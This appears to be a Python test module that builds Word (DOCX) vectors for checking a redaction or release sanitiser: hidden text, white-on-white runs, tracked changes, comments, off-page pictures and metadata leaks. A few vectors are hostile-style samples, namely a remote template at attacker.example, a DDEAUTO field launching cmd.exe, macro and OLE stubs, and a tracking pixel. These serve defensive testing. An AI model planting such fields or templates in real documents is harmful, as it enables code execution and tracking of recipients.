"""The vectors of Word documents: those of the list that the project was given, each as a change to a clean letter."""

from lxml import etree

from foi_letters.release.hidden.xml import child, descendants, q
from tests.release.hidden.books import editing, first
from tests.release.hidden.packs import Pack, xml
from tests.release.hidden.pictures import photo, png
from tests.release.hidden.vector import WARN, Vector, collector

DOCX: list[Vector] = []
vector = collector("docx", DOCX)
BODY, SETTINGS, STYLES = "word/document.xml", "word/settings.xml", "word/styles.xml"
SECRET = "Officer 4471"
DOC_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml."


def add_body(pack: Pack, markup: str) -> None:
    """Markup at the end of the body, before the section properties."""
    with editing(pack, BODY) as root:
        body = child(root, "w:body")
        assert body is not None
        last = body[-1]
        element = xml(markup)
        if last.tag == q("w:sectPr"):
            last.addprevious(element)
        else:
            body.append(element)


def add_run(pack: Pack, properties: str, text: str = SECRET) -> None:
    """A paragraph with one run of these properties."""
    add_body(pack, f"<w:p><w:r><w:rPr>{properties}</w:rPr><w:t>{text}</w:t></w:r></w:p>")


def add_setting(pack: Pack, markup: str) -> None:
    """An element in the settings, which are made where the document has none."""
    if SETTINGS not in pack.parts:
        pack.attach(
            BODY,
            "settings",
            SETTINGS,
            etree.tostring(xml("<w:settings></w:settings>")),
            f"{DOC_TYPE}settings+xml",
        )
    with editing(pack, SETTINGS) as root:
        root.append(xml(markup))


@vector("hidden-text")
def hidden_text(pack: Pack) -> None:
    add_run(pack, "<w:vanish/>")


@vector("hidden-text")
def hidden_text_through_a_character_style(pack: Pack) -> None:
    with editing(pack, STYLES) as styles:
        styles.append(
            xml(
                '<w:style w:type="character" w:styleId="Quiet"><w:name w:val="Quiet"/><w:rPr><w:vanish/></w:rPr></w:style>'
            )
        )
    add_run(pack, '<w:rStyle w:val="Quiet"/>')


@vector("colour-on-colour")
def white_text_on_white(pack: Pack) -> None:
    add_run(pack, '<w:color w:val="FFFFFF"/>')


@vector("colour-on-colour")
def black_highlight_over_black_text(pack: Pack) -> None:
    add_run(pack, '<w:color w:val="000000"/><w:highlight w:val="black"/>')


@vector("colour-on-colour")
def black_shading_over_black_text(pack: Pack) -> None:
    add_run(pack, '<w:color w:val="000000"/><w:shd w:val="clear" w:color="auto" w:fill="000000"/>')


@vector("tiny-text")
def one_point_text(pack: Pack) -> None:
    add_run(pack, '<w:sz w:val="2"/>')


@vector("no-size")
def table_row_of_no_height(pack: Pack) -> None:
    add_body(
        pack,
        '<w:tbl><w:tr><w:trPr><w:trHeight w:val="1" w:hRule="exact"/></w:trPr><w:tc><w:p><w:r>'
        f"<w:t>{SECRET}</w:t></w:r></w:p></w:tc></w:tr></w:tbl>",
    )


@vector("tracked-change")
def tracked_insertion(pack: Pack) -> None:
    add_body(pack, f'<w:p><w:ins w:id="1" w:author="A Person"><w:r><w:t>{SECRET}</w:t></w:r></w:ins></w:p>')


@vector("tracked-change")
def tracked_deletion(pack: Pack) -> None:
    add_body(
        pack,
        f'<w:p><w:del w:id="1" w:author="A Person"><w:r><w:delText>{SECRET}</w:delText></w:r></w:del></w:p>',
    )


@vector("tracked-change")
def tracked_move(pack: Pack) -> None:
    add_body(
        pack,
        f'<w:p><w:moveFrom w:id="1" w:author="A Person"><w:r><w:t>{SECRET}</w:t></w:r></w:moveFrom></w:p>',
    )


@vector("comments")
def comment(pack: Pack) -> None:
    content = etree.tostring(
        xml(
            f'<w:comments><w:comment w:id="0" w:author="A Person"><w:p><w:r><w:t>{SECRET}</w:t></w:r></w:p></w:comment></w:comments>'
        )
    )
    pack.attach(BODY, "comments", "word/comments.xml", content, f"{DOC_TYPE}comments+xml")
    add_body(pack, '<w:p><w:r><w:commentReference w:id="0"/></w:r></w:p>')


@vector("people")
def people_part(pack: Pack) -> None:
    space = "http://schemas.microsoft.com/office/word/2012/wordml"
    content = f'<w15:people xmlns:w15="{space}"><w15:person w15:author="A Person"/></w15:people>'
    pack.add("word/people.xml", content, f"{DOC_TYPE}people+xml")
    pack.relate(
        BODY, "", "word/people.xml", rel_type="http://schemas.microsoft.com/office/2011/relationships/people"
    )


@vector("revision-ids", WARN)
def revision_session_ids(pack: Pack) -> None:
    add_setting(pack, '<w:rsids><w:rsidRoot w:val="00A77427"/><w:rsid w:val="00A77427"/></w:rsids>')
    with editing(pack, BODY) as root:
        next(descendants(root, "w:p")).set(q("w:rsidR"), "00A77427")


def _template(pack: Pack, target: str) -> None:
    add_setting(pack, '<w:attachedTemplate r:id="rIdSeed0"/>')
    pack.relate(SETTINGS, "attachedTemplate", target, external=True)


@vector("template-link")
def attached_template_path(pack: Pack) -> None:
    _template(pack, "file:///C:/Users/aperson/Letter.dotm")


@vector("template-link")
def remote_template(pack: Pack) -> None:
    _template(pack, "http://attacker.example/evil.dotm")


@vector("mail-merge")
def mail_merge_source(pack: Pack) -> None:
    add_setting(
        pack,
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:query w:val="SELECT * FROM staff"/></w:mailMerge>',
    )


@vector("data-binding")
def content_control_bound_to_custom_xml(pack: Pack) -> None:
    pack.attach(
        BODY,
        "customXml",
        "customXml/item1.xml",
        f"<case><officer>{SECRET}</officer></case>",
        "application/xml",
    )
    add_body(
        pack,
        '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/case/officer" w:storeItemID="{1}"/></w:sdtPr><w:sdtContent><w:p><w:r>'
        "<w:t>withheld</w:t></w:r></w:p></w:sdtContent></w:sdt>",
    )


@vector("glossary")
def glossary_document(pack: Pack) -> None:
    content = etree.tostring(
        xml(
            f"<w:glossaryDocument><w:docParts><w:docPart><w:docPartBody><w:p><w:r><w:t>{SECRET}</w:t></w:r></w:p></w:docPartBody></w:docPart></w:docParts></w:glossaryDocument>"
        )
    )
    pack.attach(
        BODY, "glossaryDocument", "word/glossary/document.xml", content, f"{DOC_TYPE}document.glossary+xml"
    )


def add_field(pack: Pack, code: str, result: str = "shown") -> None:
    """A field in pieces."""
    add_body(
        pack,
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"/></w:r><w:r>'
        f'<w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    )
    with editing(pack, BODY) as root:
        list(descendants(root, "w:instrText"))[-1].text = code


@vector("field-reveals")
def filename_field(pack: Pack) -> None:
    add_field(pack, " FILENAME \\p ", "S:\\FOI\\Officer 4471\\letter.docx")


@vector("field-content")
def includetext_field(pack: Pack) -> None:
    add_field(pack, ' INCLUDETEXT "C:\\\\secret.docx" ')


@vector("field-content")
def ddeauto_field(pack: Pack) -> None:
    add_field(pack, ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')


@vector("embedded-object")
def ole_object(pack: Pack) -> None:
    kind = "application/vnd.openxmlformats-officedocument.oleObject"
    identifier = pack.attach(BODY, "oleObject", "word/embeddings/oleObject1.bin", b"\xd0\xcf", kind)
    add_body(
        pack, f'<w:p><w:r><w:object><o:OLEObject Type="Embed" r:id="{identifier}"/></w:object></w:r></w:p>'
    )


@vector("embedded-object")
def chart_source_workbook(pack: Pack) -> None:
    chart = etree.tostring(xml('<c:chartSpace><c:chart/><c:externalData r:id="rIdSeed0"/></c:chartSpace>'))
    kind = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
    identifier = pack.attach(BODY, "chart", "word/charts/chart1.xml", chart, kind)
    pack.attach(
        "word/charts/chart1.xml",
        "package",
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx",
        b"PK",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    )
    add_body(
        pack,
        f'<w:p><w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><a:graphic><a:graphicData><c:chart r:id="{identifier}"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>',
    )


@vector("macros")
def vba_project(pack: Pack) -> None:
    pack.add("word/vbaProject.bin", b"\xd0\xcf", "application/vnd.ms-office.vbaProject")
    pack.relate(
        BODY,
        "",
        "word/vbaProject.bin",
        rel_type="http://schemas.microsoft.com/office/2006/relationships/vbaProject",
    )


def picture_markup(
    identifier: str, *, anchor: str = "", properties: str = "", crop: str = "", attribute: str = "embed"
) -> str:
    """A paragraph with a picture, inline or (with markup of positions) anchored."""
    blip = f'<pic:pic><pic:blipFill><a:blip r:{attribute}="{identifier}"/>{crop}</pic:blipFill></pic:pic>'
    kind = "anchor" if anchor else "inline"
    return (
        f'<w:p><w:r><w:drawing><wp:{kind}>{anchor}<wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="Picture 1" {properties}/>'
        f"<a:graphic><a:graphicData>{blip}</a:graphicData></a:graphic></wp:{kind}></w:drawing></w:r></w:p>"
    )


def add_picture(pack: Pack, data: bytes, name: str = "image1.png", **options: str) -> None:
    """A picture on the page."""
    kind = "image/jpeg" if name.endswith("jpeg") else "image/png"
    identifier = pack.attach(BODY, "image", f"word/media/{name}", data, kind)
    add_body(pack, picture_markup(identifier, **options))


@vector("picture-metadata")
def photo_with_artist_and_place(pack: Pack) -> None:
    add_picture(pack, photo(), "image1.jpeg")


@vector("fetched-from-outside")
def picture_fetched_from_outside(pack: Pack) -> None:
    identifier = pack.relate(BODY, "image", "http://tracker.example/pixel.png", external=True)
    add_body(pack, picture_markup(identifier, attribute="link"))


@vector("off-page")
def picture_placed_off_the_page(pack: Pack) -> None:
    anchor = '<wp:positionH relativeFrom="page"><wp:posOffset>-90000000</wp:posOffset></wp:positionH>'
    add_picture(pack, png(), anchor=anchor)


@vector("alternative-text-tells")
def alt_text_with_a_path(pack: Pack) -> None:
    add_picture(pack, png(), properties='descr="C:\\Users\\aperson\\cases\\4471.png"')


@vector("unused-relationship")
def deleted_picture_still_in_the_package(pack: Pack) -> None:
    pack.attach(BODY, "image", "word/media/image9.png", png(), "image/png")


@vector("unprinted-header")
def first_page_header_that_is_switched_off(pack: Pack) -> None:
    content = etree.tostring(xml(f"<w:hdr><w:p><w:r><w:t>{SECRET}</w:t></w:r></w:p></w:hdr>"))
    identifier = pack.attach(BODY, "header", "word/header9.xml", content, f"{DOC_TYPE}header+xml")
    with editing(pack, BODY) as root:
        section = first(root, "w:sectPr")
        for element in list(section):
            if element.tag == q("w:titlePg") or element.get(q("w:type")) == "first":
                section.remove(element)
        section.insert(0, xml(f'<w:headerReference w:type="first" r:id="{identifier}"/>'))


@vector("permission")
def editing_permission_naming_a_user(pack: Pack) -> None:
    add_body(
        pack, '<w:p><w:permStart w:id="1" w:ed="aperson@northshire.example"/><w:permEnd w:id="1"/></w:p>'
    )


@vector("smart-tag")
def smart_tag(pack: Pack) -> None:
    add_body(
        pack,
        f'<w:p><w:smartTag w:uri="urn:x" w:element="PersonName"><w:r><w:t>{SECRET}</w:t></w:r></w:smartTag></w:p>',
    )


def add_link(pack: Pack, target: str, text: str = "here") -> None:
    """A hyperlink."""
    identifier = pack.relate(BODY, "hyperlink", target, external=True)
    add_body(pack, f'<w:p><w:hyperlink r:id="{identifier}"><w:r><w:t>{text}</w:t></w:r></w:hyperlink></w:p>')


@vector("internal-link")
def hyperlink_to_an_internal_sharepoint(pack: Pack) -> None:
    add_link(pack, "https://northshire.sharepoint.com/sites/foi/4471.docx")


@vector("invisible-character")
def zero_width_watermark(pack: Pack) -> None:
    add_body(pack, "<w:p><w:r><w:t>Your\u200b request\u200b was</w:t></w:r></w:p>")


@vector("protection", WARN)
def document_protection_hash(pack: Pack) -> None:
    add_setting(pack, '<w:documentProtection w:edit="readOnly" w:hash="abc=" w:salt="def="/>')


@vector("tracking-on", WARN)
def change_tracking_left_on(pack: Pack) -> None:
    add_setting(pack, "<w:trackRevisions/>")


@vector("off-page")
def text_box_off_the_page(pack: Pack) -> None:
    add_body(
        pack,
        '<w:p><w:r><w:pict><v:shape style="position:absolute;margin-left:-5000pt;width:90pt;height:20pt"><v:textbox><w:txbxContent>'
        f"<w:p><w:r><w:t>{SECRET}</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>",
    )
